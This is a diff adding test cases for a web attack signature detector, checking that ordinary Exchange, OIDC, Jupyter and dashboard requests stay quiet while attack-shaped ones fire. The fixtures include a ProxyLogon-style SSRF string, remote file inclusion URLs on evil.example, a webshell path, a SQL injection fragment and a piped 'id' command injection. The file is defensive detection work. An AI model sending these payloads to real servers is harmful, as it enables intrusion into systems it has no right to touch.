@@ -399,6 +399,44 @@ Test(websig, ordinary_traffic_is_quiet)
           NULL);
     FIRES("sensitive", "/server-status", NULL, NULL);
     FIRES("sensitive", "/server-status", "refresh=5", NULL);
+    /* the service traffic's classes (bench/service_traffic.py): Exchange's everyday
+     * requests, and ProxyLogon's and ProxyShell's shapes */
+    QUIET("/autodiscover/autodiscover.json",
+          "Email=t.suzuki%40example.go.jp&Protocol=ActiveSync&RedirectCount=1", NULL);
+    QUIET("/ecp/", "rfr=owa&p=PersonalSettings/Password.aspx", NULL);
+    FIRES("scanner", "/ecp/y.js", NULL, NULL);
+    FIRES("ssrf", "/autodiscover/autodiscover.json",
+          "@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", NULL);
+    /* an image service fetches pictures by URL; an include parameter given one still counts */
+    QUIET("/resize", "src=https%3A%2F%2Fcdn.example.go.jp%2Fimages%2Fhero.jpg&width=768", NULL);
+    FIRES("rfi", "/index.php", "page=http://evil.example/shell.jpg", NULL);
+    FIRES("rfi", "/resize", "src=http://evil.example/x.php", NULL);
+    /* Nagios' command CGI in its own folder; a cmd.cgi anywhere else */
+    QUIET("/cgi-bin/nagios4/cmd.cgi", "cmd_typ=34&host=web01&service=HTTP", NULL);
+    QUIET("/nagios/cgi-bin/cmd.cgi", NULL, NULL);
+    FIRES("webshell", "/cgi-bin/cmd.cgi", NULL, NULL);
+    /* a sign-in's destination on a developer's machine; a fetched one still counts */
+    QUIET("/realms/members/protocol/openid-connect/auth",
+          "response_type=code&client_id=spa&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&"
+          "state=x",
+          NULL);
+    QUIET("/logout", "post_logout_redirect_uri=http://127.0.0.1:8080/", NULL);
+    FIRES("ssrf", "/fetch", "url=http://localhost:8080/admin", NULL);
+    FIRES("ssrf", "/login", "next=%2F&webhook=http://127.0.0.1:8080/", NULL);
+    /* Jupyter's kernel channel carries the client's session id; a page's link does not */
+    QUIET("/user/alice/api/kernels/a1b2/channels", "session_id=8f14e45fceea167a5a36dedd4bea2543",
+          NULL);
+    FIRES("session", "/index.php", "session_id=8f14e45fceea167a5a36dedd4bea2543", NULL);
+    /* a search's groups, a dashboard's alternation, a mailbox item's base64 id */
+    QUIET("/search", "query=%28TI%3D%22battery%22+OR+AB%3D%22battery%22%29+AND+PD%3E%3D20200101",
+          NULL);
+    FIRES("sqli", "/list", "where=%28a%3D1%29+or+%281%3D1", NULL);
+    QUIET("/d/abc/ingest", "var-job=api%7Cworker&refresh=30s", NULL);
+    FIRES("rce", "/d/abc/ingest", "var-job=api%7Cid", NULL);
+    QUIET("/owa/",
+          "ae=Item&t=IPM.Note&id=RgAAAAR6gqhsE2VOVhobdWDdJcN0ogCVSU94PXfdI6ZTYKtERhqypfXW5VOW%"
+          "2FTrvq3IUQOJ7kx9J3rEV2swmpt",
+          NULL);
 }
 
 Test(websig, family_selection_and_bad_sets)
